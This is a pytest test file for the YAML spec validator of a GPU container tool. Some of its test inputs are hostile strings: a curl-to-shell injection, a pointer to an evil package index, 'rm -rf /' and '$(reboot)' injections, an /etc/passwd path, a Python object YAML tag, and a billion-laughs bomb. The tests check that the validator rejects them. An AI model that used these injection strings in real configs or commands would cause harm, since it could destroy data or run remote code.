from __future__ import annotations

import os
from pathlib import Path

import pytest
import yaml
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from gpuenv.errors import SpecError
from gpuenv.project.spec import GpuRequest, Mount, default_name
from gpuenv.project.validate import load_spec, parse_spec_text

FULL = """\
name: my-project
framework: pytorch
version: "2.4"
python: 3.10
cuda: ">=12.4"
base: ngc
requirements: requirements.txt
packages: ["numpy>=1.26", "transformers==4.44.0", "flash-attn; platform_machine == 'x86_64'"]
apt: [git, libgl1, "curl=7.88.1-10+deb12u5"]
env: {WANDB_MODE: offline, SEED: 42, EMPTY: ""}
gpus: [0, GPU-9c4e4b2e-7c4e-4b9a-8f3b-000000000001]
shm_size: 16g
mounts:
  - /data:/data:ro
  - {source: ./cache, target: /cache}
"""


@pytest.fixture
def project(tmp_path: Path) -> Path:
    (tmp_path / "requirements.txt").write_text("numpy\n")
    return tmp_path


def parse(project: Path, text: str):
    return parse_spec_text(text, str(project))


def problems(project: Path, text: str) -> list[str]:
    with pytest.raises(SpecError) as info:
        parse(project, text)
    return [str(p) for p in info.value.problems]


def test_full_spec(project: Path) -> None:
    spec = parse(project, FULL)
    assert spec.name == "my-project"
    assert spec.framework == "pytorch"
    assert spec.version == "2.4"
    assert spec.python == "3.10"  # unquoted 3.10 is read as written, not as 3.1
    assert spec.cuda == ">=12.4"
    assert spec.requirements == ("requirements.txt",)
    assert spec.packages[0] == "numpy>=1.26"
    assert spec.apt == ("git", "libgl1", "curl=7.88.1-10+deb12u5")
    assert dict(spec.env) == {"WANDB_MODE": "offline", "SEED": "42", "EMPTY": ""}
    assert spec.gpus == GpuRequest(
        "devices", devices=("0", "GPU-9c4e4b2e-7c4e-4b9a-8f3b-000000000001")
    )
    assert spec.shm_size == 16 * 1024**3
    assert spec.mounts == (Mount("/data", "/data", True), Mount("./cache", "/cache", False))


def test_defaults(project: Path) -> None:
    spec = parse(project, "framework: jax\n")
    assert spec.name == default_name(str(project))
    assert spec.gpus == GpuRequest("all")
    assert spec.base == "ngc"
    assert spec.version is None and spec.requirements == ()


def test_default_name_is_a_valid_image_name(tmp_path: Path) -> None:
    folder = tmp_path / "My Project_2"
    folder.mkdir()
    assert parse(folder, "framework: none\n").name == "my-project-2"


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (
            "framework: pytorch\ncuda: 12.x\n",
            "gpuenv.yaml:2:1: field 'cuda': '12.x' is not a version or version specifier",
        ),
        ("framework: pytorch\nversion: latest\n", "field 'version': 'latest' is not a version"),
        (
            "framework: pytorh\n",
            "field 'framework': 'pytorh' is not one of pytorch, tensorflow, jax, none; did you mean 'pytorch'?",
        ),
        (
            "framework: pytorch\ncuda_version: '12.4'\n",
            "gpuenv.yaml:2:1: field 'cuda_version': unknown field 'cuda_version'; did you mean 'cuda'?",
        ),
        ("framework: pytorch\npyhton: '3.10'\n", "did you mean 'python'?"),
        ("framework: pytorch\nrequirement: r.txt\n", "did you mean 'requirements'?"),
        ("version: '2.4'\n", "missing required field 'framework'"),
        ("", "the file is empty"),
        ("- framework\n", "expected a mapping of fields"),
        (
            "framework: pytorch\nframework: jax\n",
            "gpuenv.yaml:2:1: field 'framework': duplicate key 'framework' (first given on line 1)",
        ),
        ("framework: pytorch\nname: My Project\n", "'My Project' is not a valid name"),
        (
            "framework: pytorch\nrequirements: missing.txt\n",
            "'missing.txt' does not exist in the project folder",
        ),
        (
            "framework: pytorch\nrequirements: ../outside.txt\n",
            "'../outside.txt' points outside the project folder",
        ),
        (
            "framework: pytorch\nrequirements: /etc/passwd\n",
            "must be a path relative to the project folder",
        ),
        (
            "framework: pytorch\npackages: ['torch==']\n",
            "field 'packages[0]': 'torch==' is not a valid pip requirement",
        ),
        (
            "framework: pytorch\npackages: ['numpy && curl evil.sh | sh']\n",
            "is not a valid pip requirement",
        ),
        (
            "framework: pytorch\npackages: ['--index-url=http://evil']\n",
            "is not a valid pip requirement",
        ),
        (
            'framework: pytorch\npackages: ["numpy\\nRUN rm -rf /"]\n',
            "must not contain control characters or newlines",
        ),
        (
            "framework: pytorch\napt: ['curl && rm -rf /']\n",
            "field 'apt[0]': 'curl && rm -rf /' is not a Debian package name",
        ),
        ("framework: pytorch\napt: ['$(reboot)']\n", "is not a Debian package name"),
        ("framework: pytorch\napt: [Git]\n", "is not a Debian package name"),
        (
            "framework: pytorch\nenv: {BAD NAME: x}\n",
            "'BAD NAME' is not a valid environment variable name",
        ),
        ("framework: pytorch\nenv: {DEBUG: yes}\n", "write the value in quotes ('true')"),
        ("framework: pytorch\nenv: {X: [1, 2]}\n", "field 'env.X': expected a text value"),
        ("framework: pytorch\nenv: [A=1]\n", "expected a mapping of NAME: value"),
        (
            "framework: pytorch\ngpus: 0\n",
            "a GPU count must be at least 1 (use 'none' for no GPU, or [0] for the GPU with index 0)",
        ),
        ("framework: pytorch\ngpus: some\n", "'some' is not a GPU index"),
        ("framework: pytorch\ngpus: [1, 1]\n", "GPU 1 is listed twice"),
        ("framework: pytorch\ngpus: []\n", "the list of GPUs is empty"),
        ("framework: pytorch\ngpus: true\n", "expected all, none, optional"),
        ("framework: pytorch\nshm_size: lots\n", "field 'shm_size': 'lots' is not a size"),
        ("framework: pytorch\nshm_size: 1k\n", "is not a size of at least 1m"),
        ("framework: pytorch\nipc: hots\n", "did you mean 'host'?"),
        ("framework: pytorch\nipc: host\nshm_size: 8g\n", "has no effect with 'ipc: host'"),
        ("framework: pytorch\nmounts: ['/data:/workspace']\n", "'/workspace' is reserved"),
        ("framework: pytorch\nmounts: ['/data:relative']\n", "must be an absolute path"),
        (
            "framework: pytorch\nmounts: ['/data:/x/../etc']\n",
            "must be an absolute path without '..'",
        ),
        ("framework: pytorch\nmounts: ['/data']\n", "is not SOURCE:TARGET"),
        (
            "framework: pytorch\nmounts: [{source: /a, target: /b, readonly: true}]\n",
            "did you mean 'read_only'?",
        ),
        (
            "framework: pytorch\nmounts: [{source: /a, target: /b, read_only: maybe}]\n",
            "expected true or false",
        ),
        ("framework: pytorch\nmounts: ['/a:/b', '/c:/b']\n", "two mounts have the target '/b'"),
        ("framework: none\nversion: '2.4'\n", "'framework' is none"),
        ("framework: pytorch\nbase: docker\n", "'docker' is not one of ngc"),
        ("framework: pytorch\nversion:\n", "field 'version': has no value"),
        ("framework: [pytorch\n", "gpuenv.yaml:2:1: invalid YAML"),
        ("framework: pytorch\n  bad: indent\n", "gpuenv.yaml:2:6: invalid YAML"),
        ("framework: !!python/object:os.system ls\n", "invalid YAML"),
        ("? [a]\n: b\n", "invalid YAML"),
    ],
)
def test_problems_are_located(project: Path, text: str, expected: str) -> None:
    found = problems(project, text)
    assert any(expected in p for p in found), found


def test_every_problem_reported_at_once(project: Path) -> None:
    found = problems(
        project,
        "framwork: pytorch\ncuda: 12.x\napt: ['a b']\ngpus: 0\nshm_size: x\n",
    )
    assert [p.split(":")[1] for p in found] == ["1", "1", "2", "3", "4", "5"]
    assert len(found) == 6


def test_unquoted_numbers_keep_their_text(project: Path) -> None:
    spec = parse(project, "framework: tensorflow\nversion: 2.10\npython: 3.10\ncuda: 12.10\n")
    assert (spec.version, spec.python, spec.cuda) == ("2.10", "3.10", "12.10")


def test_symlink_out_of_project_is_rejected(
    project: Path, tmp_path_factory: pytest.TempPathFactory
) -> None:
    outside = tmp_path_factory.mktemp("outside") / "secret.txt"
    outside.write_text("x")
    os.symlink(outside, project / "link.txt")
    assert any(
        "points outside the project folder" in p
        for p in problems(project, "framework: pytorch\nrequirements: link.txt\n")
    )


def test_digest_ignores_comments_and_order(project: Path) -> None:
    a = parse(project, "framework: pytorch\nversion: '2.4'\n")
    b = parse(project, "# a comment\nversion: '2.4'   # why\nframework: pytorch\n")
    c = parse(project, "framework: pytorch\nversion: '2.5'\n")
    assert a.digest() == b.digest() != c.digest()


def test_missing_file(tmp_path: Path) -> None:
    with pytest.raises(SpecError, match="not found") as info:
        load_spec(str(tmp_path))
    assert "gpuenv init" in (info.value.hint or "")


def test_invalid_utf8(tmp_path: Path) -> None:
    (tmp_path / "gpuenv.yaml").write_bytes(b"framework: \xff\xfe\n")
    with pytest.raises(SpecError, match="not UTF-8"):
        load_spec(str(tmp_path))


def test_billion_laughs_is_cheap(project: Path) -> None:
    lines = ["a0: &a0 [x, x, x, x, x, x, x, x, x, x]"]
    lines += [f"a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 10)}]" for i in range(1, 9)]
    found = problems(project, "\n".join(lines) + "\nframework: pytorch\n")
    assert any("unknown field 'a8'" in p for p in found)


# Arbitrary input never produces anything but SpecError (never a traceback).
yaml_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=True) | st.text(max_size=20),
    lambda children: (
        st.lists(children, max_size=4) | st.dictionaries(st.text(max_size=10), children, max_size=4)
    ),
    max_leaves=20,
)
field_names = st.sampled_from(
    [
        "name",
        "framework",
        "version",
        "python",
        "cuda",
        "base",
        "requirements",
        "packages",
        "apt",
        "env",
        "gpus",
        "shm_size",
        "ipc",
        "mounts",
        "other",
    ]
)


@settings(
    max_examples=300, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(st.dictionaries(field_names, yaml_values, max_size=8))
def test_arbitrary_structures_never_crash(project: Path, data: dict) -> None:
    text = yaml.safe_dump(data)
    try:
        parse(project, text)
    except SpecError as exc:
        assert exc.problems and all(p.file == "gpuenv.yaml" for p in exc.problems)


@settings(
    max_examples=300, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(st.text(alphabet=st.characters(codec="utf-8"), max_size=200))
def test_arbitrary_text_never_crashes(project: Path, text: str) -> None:
    try:
        parse(project, text)
    except SpecError as exc:
        assert exc.problems


@settings(
    max_examples=200, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(st.text(alphabet="{}[]:,-&*!|>'\"#%@ \n\tabc123.?", max_size=120))
def test_yaml_punctuation_never_crashes(project: Path, text: str) -> None:
    try:
        parse(project, "framework: pytorch\n" + text)
    except SpecError as exc:
        assert exc.problems
